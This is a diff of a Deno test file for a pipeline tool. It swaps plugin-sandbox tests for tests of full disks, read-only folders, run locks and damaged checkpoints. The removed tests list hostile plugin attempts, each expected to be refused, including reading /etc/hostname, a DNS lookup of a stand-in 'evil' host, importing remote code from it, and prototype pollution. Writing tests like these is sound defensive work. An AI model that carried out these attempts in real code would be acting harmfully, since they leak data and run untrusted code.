@@ -1,228 +1,318 @@
-/** Plugins that try to reach what they were not granted: each fails, and the message says which and what. */
+/** Disks that fill up, folders that cannot be written, two runs at once, nobody who listens. */
 
-import { assert, assertEquals, assertStringIncludes } from "@std/assert";
-import { catchSpy, CountingServer } from "./_spy.ts";
+import { assertEquals, assertStringIncludes } from "@std/assert";
+import { fromFileUrl, join } from "@std/path";
+import { heedsModes } from "../engine/_folder.ts";
+import {
+  confinedOf,
+  penstock,
+  start,
+  temporaryFolder,
+  TestExchange,
+  writePipeline,
+} from "./_penstock.ts";
+import { CAN_MOUNT, inNamespace, inShell, NO_MOUNTS, penstockCommand } from "./_small_disk.ts";
 
-/** What a plugin tries while it reads, and what the message must say. `PORT` is one of another server. */
-const ATTEMPTS: readonly [name: string, code: string, message: string][] = [
-  ["reads a file outside", `await Deno.readTextFile("/etc/hostname");`, 'read access to "/etc/'],
-  ["reads the pipeline file", `Deno.readTextFileSync(here + "/pipeline.json");`, "read access to "],
-  [
-    "reads by way of Node",
-    `(await import("node:fs")).readFileSync("/etc/hostname");`,
-    'read access to "/etc/',
-  ],
-  ["reads another variable", `Deno.env.get("HOME");`, 'env access to "HOME"'],
-  [
-    "reads all variables",
-    `throw new Error("It sees " + Object.keys(Deno.env.toObject()).length);`,
-    "It sees 0",
-  ],
-  [
-    "fetches from another port",
-    `await fetch("http://127.0.0.1:PORT/");`,
-    'net access to "127.0.0.1:PORT"',
-  ],
-  [
-    "fetches by the context",
-    `await context.fetch("http://127.0.0.1:PORT/");`,
-    'net access to "127.0.0.1:PORT"',
-  ],
-  ["opens a websocket", `new WebSocket("ws://127.0.0.1:PORT/");`, 'net access to "127.0.0.1:PORT"'],
-  ["connects by TCP", `await Deno.connect({ port: PORT });`, "net access to "],
-  ["asks a name server", `await Deno.resolveDns("token.evil.test", "A");`, "net access to "],
-  [
-    "tries again for ever",
-    `await context.retry("send it home", async () => {
-      throw new RetryableError("It failed", { cause: await fetch("http://127.0.0.1:PORT/").catch((e) => e) });
-    });`,
-    'net access to "127.0.0.1:PORT"',
-  ],
-  ["spawns a process", `await new Deno.Command("ls").output();`, 'run access to "ls"'],
-  ["kills a process", `Deno.kill(1, "SIGTERM");`, "run access"],
-  [
-    "writes beside the allowed path",
-    `await Deno.writeTextFile(here + "/allowed.txt.other", "x");`,
-    "write access to ",
-  ],
-  [
-    "writes over the grants",
-    `await Deno.writeTextFile(here + "/penstock.lock", "{}");`,
-    "write access to ",
-  ],
-  ["makes a link", `await Deno.symlink("/etc/hostname", here + "/allowed.txt");`, "symlink"],
-  ["opens a listening socket", `Deno.listen({ port: 0 });`, "net access to "],
-  [
-    "serves",
-    `Deno.serve({ hostname: "127.0.0.1", port: 0 }, () => new Response());`,
-    "net access to ",
-  ],
-  [
-    "imports remote code",
-    `await import("https://evil.test/" + "code.ts");`,
-    "no code is fetched here",
-  ],
-  ["imports a package", `await import("npm:left-" + "pad@1.3.0");`, "--cached-only"],
-  ["imports a file", `await import("file://" + here + "/other" + ".ts");`, "read access to "],
-  ["loads a library", `Deno.dlopen("/lib/x.so", {});`, 'ffi access to "/lib/x.so"'],
-  [
-    "asks for more",
-    `const { state } = await Deno.permissions.request({ name: "read" });
-    if (state !== "granted") throw new Error("read access is " + state);`,
-    "read access is denied",
-  ],
-  [
-    "starts a worker that may do more",
-    `new Worker("data:text/javascript,1", { type: "module", deno: { permissions: "all" } });
-    throw new Error("A worker was started");`,
-    "",
-  ],
-  ["adds to all objects", `Object.prototype.spied = true;`, "not extensible"],
-  ["adds to all lists", `Array.prototype.spied = true;`, "not extensible"],
-  [
-    "changes how secrets print",
-    `(options.token.constructor).prototype.toString = () => "x";`,
-    "read only",
-  ],
-];
+const CSV_FILE = fromFileUrl(new URL("../../pipelines/custom/csv_file.ts", import.meta.url));
+const REFUSING = fromFileUrl(new URL("../crash/refusing.ts", import.meta.url));
+const MINUTES = 2_000;
 
-Deno.test("a plugin fails at all that it was not granted", async () => {
-  await using other = new CountingServer();
-  const port = String(other.port);
-  const attempts = ATTEMPTS.map(([name, code]) =>
-    `try { ${code}; context.log.warn("${name}: it could"); }
-     catch (error) { context.log.warn("${name}: " + textOf(error)); }`
-  );
-  const { code, stderr, files } = await catchSpy({
-    onLoad: `const textOf = (error) => error ? error.message + "; " + textOf(error.cause) : "";`,
-    onRead: attempts.join("\n").replaceAll("PORT", port),
-    permissions: { write: ["allowed.txt"] },
-    options: { token: "hunter2-hunter2" },
-    files: { "other.ts": "export default 1;" },
-  });
-  assertEquals(code, 0, stderr);
-  const lines = stderr.split("\n");
-  for (const [name, , message] of ATTEMPTS) {
-    const line = lines.find((one) => one.includes(`${name}: `)) ?? "";
-    assert(!line.endsWith("it could"), line);
-    assertStringIncludes(line, message.replaceAll("PORT", port));
+/** Prices of a symbol each minute, some of which are refused, in four epochs. */
+async function writePrices(
+  folder: string,
+  paths: { readonly out?: string; readonly rejected?: string } = {},
+): Promise<string> {
+  const lines = ["time,symbol,close"];
+  for (let minute = 0; minute < MINUTES; minute++) {
+    lines.push(`${Date.UTC(2024, 0, 1) + minute * 60_000},A,${100 + minute % 97}.5`);
   }
-  assertEquals(other.requests, 0);
-  assertEquals(Object.keys(files).filter((file) => !file.startsWith(".penstock")), []);
-});
-
-/** Those whose message is looked at as a user sees it. */
-const SHOWN = [
-  "reads a file outside",
-  "reads another variable",
-  "fetches by the context",
-  "tries again for ever",
-  "spawns a process",
-  "writes beside the allowed path",
-  "opens a listening socket",
-  "imports remote code",
-  "adds to all objects",
-];
-
-for (const [name, code, message] of ATTEMPTS.filter(([name]) => SHOWN.includes(name))) {
-  Deno.test(`a plugin that ${name} ends the run, with its name and what it lacks`, async () => {
-    await using other = new CountingServer();
-    const port = String(other.port);
-    const { code: exit, stderr } = await catchSpy({
-      onRead: code.replaceAll("PORT", port),
-      permissions: { write: ["allowed.txt"] },
-    });
-    assertEquals(exit, 1, stderr);
-    assertStringIncludes(stderr, 'Source "spy"');
-    assertStringIncludes(stderr, OUR_WORDS[message] ?? message.replaceAll("PORT", port));
-    assertEquals(other.requests, 0);
+  await Deno.mkdir(folder, { recursive: true });
+  await Deno.writeTextFile(join(folder, "prices.csv"), `${lines.join("\n")}\n`);
+  const { out = "out.lp", rejected = "rejected.jsonl" } = paths;
+  const file = await writePipeline(folder, {
+    name: "prices",
+    sources: [{
+      use: CSV_FILE,
+      with: {
+        path: "prices.csv",
+        measurement: "price",
+        tags: ["symbol"],
+        fields: { close: "float" },
+      },
+    }],
+    transforms: [{ use: REFUSING, on_error: "dead_letter" }, { use: "rsi" }],
+    sinks: [{ use: "file", with: { path: out } }],
+    dead_letter: { use: "file", with: { path: rejected } },
+    epoch: { records: 500 },
   });
+  // It has code of its own, which may reach what it asks for once that is accepted.
+  const { code, stderr } = await penstock("accept", file);
+  assertEquals(code, 0, stderr);
+  return file;
 }
 
-/** Deno's words on the left, ours on the right. */
-const OUR_WORDS: Readonly<Record<string, string>> = { "--cached-only": "no code is fetched here" };
+let known: Promise<Record<string, string>> | undefined;
 
-const LOADING: readonly [name: string, code: string, message: string][] = [
-  ["writes a file", `Deno.writeTextFileSync(here + "/allowed.txt", "x");`, "write access to "],
-  ["fetches", `await fetch("http://127.0.0.1:PORT/");`, 'net access to "127.0.0.1:PORT"'],
-  ["spawns a process", `new Deno.Command("ls").outputSync();`, 'run access to "ls"'],
-  ["starts Deno", `new Deno.Command(Deno.execPath()).outputSync();`, "run access to "],
-  ["reads a variable", `Deno.env.get("HOME");`, 'env access to "HOME"'],
-  ["reads a file", `Deno.readTextFileSync(here + "/pipeline.json");`, "read access to "],
-];
-
-for (const [name, code, message] of LOADING) {
-  Deno.test(`a plugin that ${name} when it is loaded is not planned with, whatever it was granted`, async () => {
-    await using other = new CountingServer();
-    const port = String(other.port);
-    const { code: exit, stderr, files } = await catchSpy({
-      onLoad: code.replaceAll("PORT", port),
-      permissions: { write: ["allowed.txt"], net: [`127.0.0.1:${port}`] },
-    });
-    assertEquals(exit, 78, stderr);
-    assertStringIncludes(stderr, 'source "./spy.ts"');
-    assertStringIncludes(stderr, message.replaceAll("PORT", port));
-    assertEquals([other.requests, Object.keys(files)], [0, []]);
-  });
+/** What an undisturbed run leaves. */
+function undisturbed(): Promise<Record<string, string>> {
+  return known ??= (async () => {
+    await using temporary = await temporaryFolder();
+    const { code, stderr } = await penstock("run", await writePrices(temporary.path));
+    assertEquals(code, 0, stderr);
+    return await outputIn(temporary.path);
+  })();
 }
 
-Deno.test("a plugin that lies about what it asks for gets no more for it", async () => {
-  const lie = (claims: unknown) =>
-    `(await import("node:fs")).writeSync(1, ${
-      JSON.stringify(JSON.stringify({ name: "spied", claims }))
-    }); Deno.exit(0);`;
-  const asked = { read: ["/etc/hostname"], write: [], net: [], env: [] };
-  const more = await catchSpy({ onLoad: lie([{ plugin: "./spy.ts", ...asked }]) });
-  assertEquals(more.code, 78, more.stderr);
-  assertStringIncludes(more.stderr, "+ read /etc/hostname");
-  // As if it were a plugin that comes along: such a one is granted nothing by its name.
-  const known = await catchSpy({ onLoad: lie([{ plugin: "file", ...asked }]) });
-  assertEquals(known.code, 78, known.stderr);
-  const wild = await catchSpy({ onLoad: lie([{ plugin: "./spy.ts", ...asked, net: ["*:443"] }]) });
-  assertStringIncludes(wild.stderr, "must not print anything");
-  const less = await catchSpy({
-    onLoad: `if (Deno.args[0] === "claims") { ${lie([])} }`,
-    onRead: `await Deno.readTextFile("/etc/hostname");`,
-    permissions: { read: ["/etc/hostname"] },
-    granted: {},
-  });
-  assertEquals(less.code, 1, less.stderr);
-  assertStringIncludes(less.stderr, 'read access to "/etc/hostname"');
-});
+async function outputIn(folder: string): Promise<Record<string, string>> {
+  return {
+    out: await Deno.readTextFile(join(folder, "out.lp")),
+    rejected: await Deno.readTextFile(join(folder, "rejected.jsonl")),
+  };
+}
 
-Deno.test("a plugin reaches what it declares and was granted", async () => {
-  await using server = new CountingServer(() => new Response("hello"));
-  const { code, stdout, stderr, files } = await catchSpy({
-    onRead: `const text = await (await context.fetch(options.url)).text();
-      const file = await context.files.open("allowed.txt");
-      await file.append(new TextEncoder().encode(text));
-      file.close();
-      yield { records: [text], position: {} };`,
-    permissions: {
-      net: [`127.0.0.1:${server.port}`],
-      read: ["allowed.txt"],
-      write: ["allowed.txt"],
+interface FullDisk {
+  readonly what: string;
+  readonly size: string;
+  readonly paths: { readonly out?: string; readonly rejected?: string };
+  readonly args: readonly string[];
+  readonly says: readonly string[];
+}
+
+const FULL_DISKS: readonly FullDisk[] = [
+  {
+    what: "the output",
+    size: "64k",
+    paths: { out: "small/out.lp" },
+    args: [],
+    says: [
+      'Cannot write "SMALL/out.lp": No space left on device',
+      "Free some space on the disk, then run it again: nothing is lost",
+    ],
+  },
+  {
+    what: "the dead letters",
+    size: "16k",
+    paths: { rejected: "small/rejected.jsonl" },
+    args: [],
+    says: [
+      'Cannot write "SMALL/rejected.jsonl": No space left on device',
+      "Free some space on the disk, then run it again: nothing is lost",
+    ],
+  },
+  {
+    // Two pages: the third file of a save has no room.
+    what: "the checkpoint",
+    size: "8k",
+    paths: {},
+    args: ["--state", "SMALL/state"],
+    says: [
+      'Cannot save the checkpoint in "SMALL/state/prices": No space left on device',
+      "The last checkpoint is whole: make room or mend the folder, then run it again",
+    ],
+  },
+];
+
+for (const { what, size, paths, args, says } of FULL_DISKS) {
+  Deno.test({
+    name: `a disk that is full for ${what} ends the run, which goes on once there is room ${
+      CAN_MOUNT ? "" : NO_MOUNTS
+    }`.trim(),
+    ignore: !CAN_MOUNT,
+    async fn() {
+      await using temporary = await temporaryFolder();
+      const folder = join(temporary.path, "full");
+      const small = join(folder, "small");
+      const file = await writePrices(folder, paths);
+      await Deno.mkdir(small);
+      const run = penstockCommand("run", file, ...args.map((arg) => arg.replace("SMALL", small)));
+      const { code, stdout, stderr } = await inNamespace(`
+        mount -t tmpfs -o size=${size} tmpfs "${small}"
+        ${run} && exit 9 || echo "first $?"
+        mount -o remount,size=8m "${small}"
+        ${run}
+        echo "second $?"
+        cp -r "${small}/." "${folder}"
+      `);
+      assertEquals(stdout, "first 1\nsecond 0\n", stderr);
+      assertEquals(code, 0);
+      for (const text of says) assertStringIncludes(stderr, text.replace("SMALL", small));
+      assertStringIncludes(stderr, "Going on from the last checkpoint");
+      assertEquals(await outputIn(folder), await undisturbed());
     },
-    options: { url: `http://127.0.0.1:${server.port}/` },
   });
-  assertEquals([code, stdout], [0, '"hello"\n'], stderr);
-  assertEquals(files["allowed.txt"], "hello");
-  assertEquals(server.requests, 1);
+}
+
+Deno.test({
+  name: "a file that may not grow any more ends the run, which goes on once it may",
+  ignore: Deno.build.os === "windows",
+  async fn() {
+    await using temporary = await temporaryFolder();
+    const folder = join(temporary.path, "limited");
+    const file = await writePrices(folder);
+    const { stdout, stderr } = await inShell(`
+      trap '' XFSZ
+      (ulimit -f 64; ${penstockCommand("run", file)} && exit 9 || echo "first $?")
+    `);
+    assertEquals(stdout, "first 1\n", stderr);
+    assertStringIncludes(stderr, `Cannot write "${join(folder, "out.lp")}": File too large`);
+    assertStringIncludes(stderr, "Raise the limit of file sizes, see `ulimit -f`");
+    const second = await penstock("run", file);
+    assertEquals(second.code, 0, second.stderr);
+    assertEquals(await outputIn(folder), await undisturbed());
+  },
 });
 
-Deno.test("a plugin that asks for more than was granted stops with the difference and what to do", async () => {
-  const { code, stdout, stderr } = await catchSpy({
-    permissions: { net: ["old.test:443", "new.test:443"], env: ["HOME"] },
-    granted: { net: ["old.test:443", "gone.test:443"] },
-  });
-  assertEquals([code, stdout], [78, ""]);
-  assertStringIncludes(stderr, "  ./spy.ts\n    + net new.test:443\n    + env HOME\n");
-  assert(!stderr.includes("old.test"), stderr);
-  assertStringIncludes(stderr, "penstock accept ");
+Deno.test({
+  name: `a file system that is read only ends the run before anything is read ${
+    CAN_MOUNT ? "" : NO_MOUNTS
+  }`.trim(),
+  ignore: !CAN_MOUNT,
+  async fn() {
+    await using temporary = await temporaryFolder();
+    const file = await writePrices(temporary.path);
+    const run = penstockCommand("run", file, "--state", join(temporary.path, "elsewhere"));
+    await Deno.mkdir(join(temporary.path, "elsewhere"));
+    const { code, stdout, stderr } = await inNamespace(`
+      mount --bind "${temporary.path}" "${temporary.path}"
+      mount -t tmpfs tmpfs "${temporary.path}/elsewhere"
+      mount -o remount,ro,bind "${temporary.path}"
+      ${penstockCommand("run", file)} && exit 9 || echo "state $?"
+      ${run} && exit 9 || echo "output $?"
+    `);
+    assertEquals(code, 0, stderr);
+    assertEquals(stdout, "state 1\noutput 1\n");
+    assertStringIncludes(
+      stderr,
+      `Cannot keep checkpoints in "${join(temporary.path, ".penstock/prices")}": Read-only file`,
+    );
+    assertStringIncludes(stderr, "Make the folder writable, or name another one with --state");
+    assertStringIncludes(
+      stderr,
+      `Cannot write "${join(temporary.path, "rejected.jsonl")}": Read-o`,
+    );
+    assertStringIncludes(stderr, "mount it to be written, or set another path");
+  },
 });
 
-Deno.test("a plugin that names no exact host is refused", async () => {
-  const { code, stderr } = await catchSpy({ permissions: { net: ["*.test:443"] } });
-  assertEquals(code, 1, stderr);
-  assertStringIncludes(stderr, 'Cannot let source "spy" reach "*.test:443"');
+Deno.test({
+  name: "a folder that may not be written ends the run (needs a user other than root)",
+  ignore: !heedsModes(),
+  async fn() {
+    await using temporary = await temporaryFolder();
+    const folder = join(temporary.path, "closed");
+    const file = await writePrices(folder);
+    await Deno.chmod(folder, 0o555);
+    const { code, stderr } = await penstock("run", file);
+    await Deno.chmod(folder, 0o755);
+    assertEquals(code, 1);
+    assertStringIncludes(
+      stderr,
+      `Cannot keep checkpoints in "${join(folder, ".penstock/prices")}"`,
+    );
+    assertStringIncludes(stderr, "Make the folder writable, or name another one with --state");
+  },
+});
+
+Deno.test("a second run of a pipeline refuses, and the lock does not outlive a run that is killed", async () => {
+  await using exchange = new TestExchange();
+  await using temporary = await temporaryFolder();
+  const pipeline = (base_url: string) => ({
+    name: "twice",
+    sources: [{
+      use: "binance_rest",
+      with: {
+        symbols: ["BTCUSDT"],
+        interval: "1h",
+        from: "2024-03-01",
+        to: "2024-03-02",
+        base_url,
+      },
+    }],
+    transforms: [{ use: "kline" }],
+    sinks: [{ use: "file", with: { path: "out.lp" } }],
+  });
+  // Nobody listens on the discard port: the run waits there.
+  const file = await writePipeline(temporary.path, pipeline("http://127.0.0.1:9"));
+  const first = start(["run", file], { stdout: "null" });
+  let said = "";
+  for await (const text of first.stderr.pipeThrough(new TextDecoderStream())) {
+    said += text;
+    if (said.includes("cannot be reached")) break;
+  }
+  const second = await penstock("run", file);
+  assertEquals(second.code, 1);
+  assertStringIncludes(
+    second.stderr,
+    `Cannot run the pipeline twice at once: another run uses "${
+      join(temporary.path, ".penstock/twice")
+    }"`,
+  );
+  assertStringIncludes(second.stderr, "Wait for the other run to end, or stop it");
+  // The process that runs the pipeline holds the lock; the one that started it ends with it.
+  Deno.kill(await confinedOf(first), "SIGKILL");
+  await first.status;
+  await writePipeline(temporary.path, pipeline(exchange.rest));
+  const third = await penstock("run", file);
+  assertEquals(third.code, 0, third.stderr);
+  assertEquals((await Deno.readTextFile(join(temporary.path, "out.lp"))).split("\n").length, 25);
+});
+
+const DAMAGES: readonly [string, (bytes: Uint8Array) => Uint8Array<ArrayBuffer>][] = [
+  ["cut short", (bytes) => bytes.slice(0, bytes.length / 2)],
+  ["one bit of it flips", (bytes) => bytes.with(200, (bytes[200] ?? 0) ^ 4)],
+];
+
+for (const [name, damage] of DAMAGES) {
+  Deno.test(`a checkpoint that is damaged (${name}) is noticed; the run goes on from the one before it`, async () => {
+    await using temporary = await temporaryFolder();
+    const folder = join(temporary.path, "damaged");
+    const file = await writePrices(folder);
+    await penstock("run", file);
+    const checkpoint = join(folder, ".penstock/prices/checkpoint");
+    await Deno.writeFile(checkpoint, damage(await Deno.readFile(checkpoint)));
+    const { code, stderr } = await penstock("run", file);
+    assertEquals(code, 0, stderr);
+    assertStringIncludes(
+      stderr,
+      `The checkpoint "${checkpoint}" is damaged: its checksum does not`,
+    );
+    assertStringIncludes(stderr, "going on from the one before it");
+    assertEquals(await outputIn(folder), await undisturbed());
+  });
+}
+
+for (
+  const [how, redirect] of [["full", "2>/dev/full"], ["closed", "2>&-"]] as const
+) {
+  Deno.test({
+    name: `a run goes on although standard error is ${how}`,
+    ignore: Deno.build.os !== "linux",
+    async fn() {
+      await using temporary = await temporaryFolder();
+      const file = await writePrices(temporary.path);
+      const { code } = await inShell(`${penstockCommand("run", file, "--verbose")} ${redirect}`);
+      assertEquals(code, 0);
+      assertEquals(await outputIn(temporary.path), await undisturbed());
+    },
+  });
+}
+
+Deno.test("a run goes on although whoever read its log has gone", async () => {
+  await using temporary = await temporaryFolder();
+  const folder = join(temporary.path, "unheard");
+  const child = start(["run", await writePrices(folder), "--verbose"], { stdout: "null" });
+  await child.stderr.cancel();
+  assertEquals((await child.status).code, 0);
+  assertEquals(await outputIn(folder), await undisturbed());
+});
+
+Deno.test({
+  name: "a run that fails says so by its exit code when standard error is full",
+  ignore: Deno.build.os !== "linux",
+  async fn() {
+    await using temporary = await temporaryFolder();
+    const file = await writePrices(temporary.path, { out: "prices.csv" });
+    const { code } = await inShell(`${penstockCommand("run", file)} 2>/dev/full`);
+    assertEquals(code, 1);
+  },
 });
